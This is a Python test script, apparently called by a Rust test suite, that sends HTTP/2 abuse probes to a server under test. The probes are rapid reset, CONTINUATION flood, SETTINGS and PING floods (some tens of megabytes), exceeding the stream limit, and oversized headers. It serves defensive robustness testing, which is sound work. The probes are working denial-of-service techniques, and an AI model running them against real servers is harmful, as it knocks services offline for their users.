#!/usr/bin/env python3
"""HTTP/2 abuse probes against an h2c (prior knowledge) listener, for tests/h2_abuse.rs.

Usage: abuse.py PROBE HOST PORT AUTHORITY
PROBE: rapid_reset | continuation_flood | settings_flood | ping_flood | settings_flood_noread |
       ping_flood_noread | max_streams | big_headers

Prints one JSON object on stdout describing what the server did. Exit status 0 means the
probe ran to completion (the verdict is the Rust test's); 2 means it could not run at all.
Every loop is bounded in count, and every socket operation in time.
"""
import json
import socket
import sys
import time

try:
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events
    import h2.exceptions
    import h2.settings
    from hyperframe.frame import ContinuationFrame, HeadersFrame
except ImportError as e:  # the Rust test turns this into a clear failure
    print(json.dumps({"error": "python h2 is not installed (pip install h2): %s" % e}))
    sys.exit(2)

IO_TIMEOUT = 5.0


class Probe:
    def __init__(self, host, port, authority):
        self.sock = socket.create_connection((host, port), timeout=IO_TIMEOUT)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.authority = authority
        self.goaway = None
        self.closed = False
        self.resets = {}
        self.responses = {}
        self.acks = 0
        self.pongs = 0
        self.write_error = None
        self.conn.initiate_connection()
        self.flush()

    def headers(self, path, extra=()):
        return [
            (":method", "GET"),
            (":path", path),
            (":scheme", "http"),
            (":authority", self.authority),
        ] + list(extra)

    def flush(self):
        data = self.conn.data_to_send()
        self.send_raw(data)

    def send_raw(self, data):
        if not data or self.closed or self.write_error:
            return
        try:
            self.sock.sendall(data)
        except (BrokenPipeError, ConnectionResetError) as e:
            self.write_error = type(e).__name__
        except socket.timeout:
            # The server stopped reading: backpressure, not a failure of the probe.
            self.write_error = "timeout"

    def pump(self, seconds, until=None):
        """Reads and handles events for up to `seconds`, until the server closes, or until
        `until()` holds."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            if until is not None and until():
                break
            self.sock.settimeout(max(0.01, min(0.2, deadline - time.monotonic())))
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except (ConnectionResetError, OSError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError as e:
                # Our own state machine objects to what we sent; the server's answer is
                # already recorded in the events before it.
                self.closed = True
                self.local_error = str(e)
                break
            for ev in events:
                self.on_event(ev)
            try:
                self.flush()
            except h2.exceptions.ProtocolError:
                pass
        self.sock.settimeout(IO_TIMEOUT)

    def on_event(self, ev):
        if isinstance(ev, h2.events.ConnectionTerminated):
            self.goaway = {
                "error_code": int(ev.error_code),
                "last_stream_id": ev.last_stream_id,
            }
        elif isinstance(ev, h2.events.StreamReset):
            self.resets[ev.stream_id] = int(ev.error_code)
        elif isinstance(ev, h2.events.ResponseReceived):
            status = dict(ev.headers).get(":status")
            self.responses[ev.stream_id] = status
        elif isinstance(ev, h2.events.SettingsAcknowledged):
            self.acks += 1
        elif isinstance(ev, h2.events.PingAckReceived):
            self.pongs += 1

    def result(self, **extra):
        codes = {}
        for code in self.resets.values():
            codes[str(code)] = codes.get(str(code), 0) + 1
        out = {
            "goaway": self.goaway,
            "closed": self.closed,
            "write_error": self.write_error,
            "resets": codes,
            "responses": len(self.responses),
            "settings_acks": self.acks,
            "pongs": self.pongs,
        }
        out.update(extra)
        return out


def rapid_reset(p):
    sent = 0
    for i in range(2000):
        sid = 1 + 2 * i
        try:
            p.conn.send_headers(sid, p.headers("/"), end_stream=True)
            p.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        except h2.exceptions.ProtocolError:
            break  # the connection is closed on our side after a GOAWAY
        sent += 1
        if i % 50 == 49:
            p.flush()
            p.pump(0.001)
            if p.goaway or p.closed:
                break
    p.flush()
    p.pump(2.0, until=lambda: p.goaway is not None)
    return p.result(streams_sent=sent)


def continuation_flood(p):
    # One HEADERS without END_HEADERS, then CONTINUATION frames that each carry one more
    # literal header and never END_HEADERS: the server must not buffer them all.
    block = p.conn.encoder.encode(p.headers("/"))
    p.send_raw(HeadersFrame(1, data=block, flags=["END_STREAM"]).serialize())
    sent = 0
    for i in range(10000):
        # Literal header field without indexing, new name: 0x00, len, name, len, value.
        frag = b"\x00\x07x-flood" + bytes([16]) + (b"%016d" % i)
        p.send_raw(ContinuationFrame(1, data=frag).serialize())
        if p.write_error:
            break
        sent += 1
        if i % 500 == 499:
            p.pump(0.001)
            if p.goaway or p.closed:
                break
    p.pump(2.0, until=lambda: p.goaway is not None)
    return p.result(frames_sent=sent)


def flood(p, send_one, count, answered):
    """Sends `count` control frames, reading the answers as it goes."""
    sent = 0
    for i in range(count):
        send_one(i)
        sent += 1
        if i % 500 == 499:
            p.flush()
            if p.write_error or p.closed:
                break
            p.pump(0.0005)
    p.flush()
    p.pump(5.0, until=lambda: p.goaway is not None or answered() >= sent)
    return p.result(frames_sent=sent)


def settings_flood(p):
    return flood(
        p,
        lambda i: p.conn.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100 + i % 7}),
        10000,
        lambda: p.acks - 1,  # the first ACK answers the preface SETTINGS
    )


def ping_flood(p):
    return flood(p, lambda i: p.conn.ping(b"%08d" % i), 10000, lambda: p.pongs)


def flood_noread(p, frame, count):
    """Writes `count` copies of a raw control frame and never reads the answers, so they pile
    up: past the kernel's socket buffers the server must stop reading (backpressure) or
    close, rather than queue answers in memory. Stops once no byte has gone out for 0.5 s."""
    payload = frame * count
    p.sock.setblocking(False)
    offset = 0
    last_progress = time.monotonic()
    while offset < len(payload):
        try:
            n = p.sock.send(payload[offset:offset + 262144])
            offset += n
            last_progress = time.monotonic()
        except BlockingIOError:
            if time.monotonic() - last_progress > 0.5:
                break
            time.sleep(0.005)
        except (BrokenPipeError, ConnectionResetError):
            p.closed = True
            break
    p.sock.setblocking(True)
    return p.result(
        bytes_total=len(payload),
        bytes_sent=offset,
        backpressure=offset < len(payload) and not p.closed,
    )


# Raw frames (RFC 9113 §6.5, §6.7): 9-byte header (length, type, flags, stream 0), payload.
PING_FRAME = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + b"flooding"
SETTINGS_FRAME = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"


def ping_flood_noread(p):
    return flood_noread(p, PING_FRAME, 2_000_000)  # 34 MB of PINGs


def settings_flood_noread(p):
    return flood_noread(p, SETTINGS_FRAME, 4_000_000)  # 36 MB of empty SETTINGS


def max_streams(p):
    """Opens the advertised maximum of streams that stay open (the route delays them), then
    one more, written by hand because the h2 library refuses to exceed the peer's limit."""
    p.pump(2.0, until=lambda: p.acks >= 1)  # the server's SETTINGS, and its ACK of ours
    limit = p.conn.remote_settings.max_concurrent_streams
    if limit > 5000:
        return p.result(error="server advertises no usable limit: %d" % limit)
    for i in range(limit):
        p.conn.send_headers(1 + 2 * i, p.headers("/hold"), end_stream=True)
        if i % 100 == 99:
            p.flush()
    p.flush()
    # Let the library go one past the limit, as a misbehaving client would; this keeps the
    # extra stream in its state machine so the server's RST_STREAM is reported.
    codes = h2.settings.SettingCodes
    p.conn.remote_settings[codes.MAX_CONCURRENT_STREAMS] = limit + 1
    p.conn.remote_settings.acknowledge()
    extra = 1 + 2 * limit
    p.conn.send_headers(extra, p.headers("/hold"), end_stream=True)
    p.flush()
    p.pump(3.0, until=lambda: extra in p.resets or p.goaway is not None)
    return p.result(limit=limit, extra_stream=extra, extra_reset=p.resets.get(extra))


def big_headers(p):
    """One header list over the proxy's 60 KiB limit, then a normal request on the same
    connection (the connection should stay usable)."""
    big = [("x-big-%d" % i, "v" * 4000) for i in range(20)]  # ~80 KiB
    p.conn.send_headers(1, p.headers("/", big), end_stream=True)
    p.flush()
    p.pump(2.0, until=lambda: 1 in p.responses or 1 in p.resets or p.goaway is not None)
    first = {"status": p.responses.get(1), "reset": p.resets.get(1)}
    after = None
    if not p.closed and not p.goaway:
        p.conn.send_headers(3, p.headers("/"), end_stream=True)
        p.flush()
        deadline = time.monotonic() + 3.0
        while 3 not in p.responses and 3 not in p.resets and not p.closed and time.monotonic() < deadline:
            p.pump(0.1)
        after = p.responses.get(3)
    return p.result(big=first, after_status=after)


PROBES = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "ping_flood_noread": ping_flood_noread,
    "settings_flood_noread": settings_flood_noread,
    "max_streams": max_streams,
    "big_headers": big_headers,
}


def main():
    if len(sys.argv) != 5 or sys.argv[1] not in PROBES:
        print(json.dumps({"error": "usage: abuse.py {%s} HOST PORT AUTHORITY" % "|".join(PROBES)}))
        sys.exit(2)
    name, host, port, authority = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    started = time.monotonic()
    p = Probe(host, port, authority)
    out = PROBES[name](p)
    out["probe"] = name
    out["seconds"] = round(time.monotonic() - started, 3)
    p.sock.close()
    print(json.dumps(out))


if __name__ == "__main__":
    main()
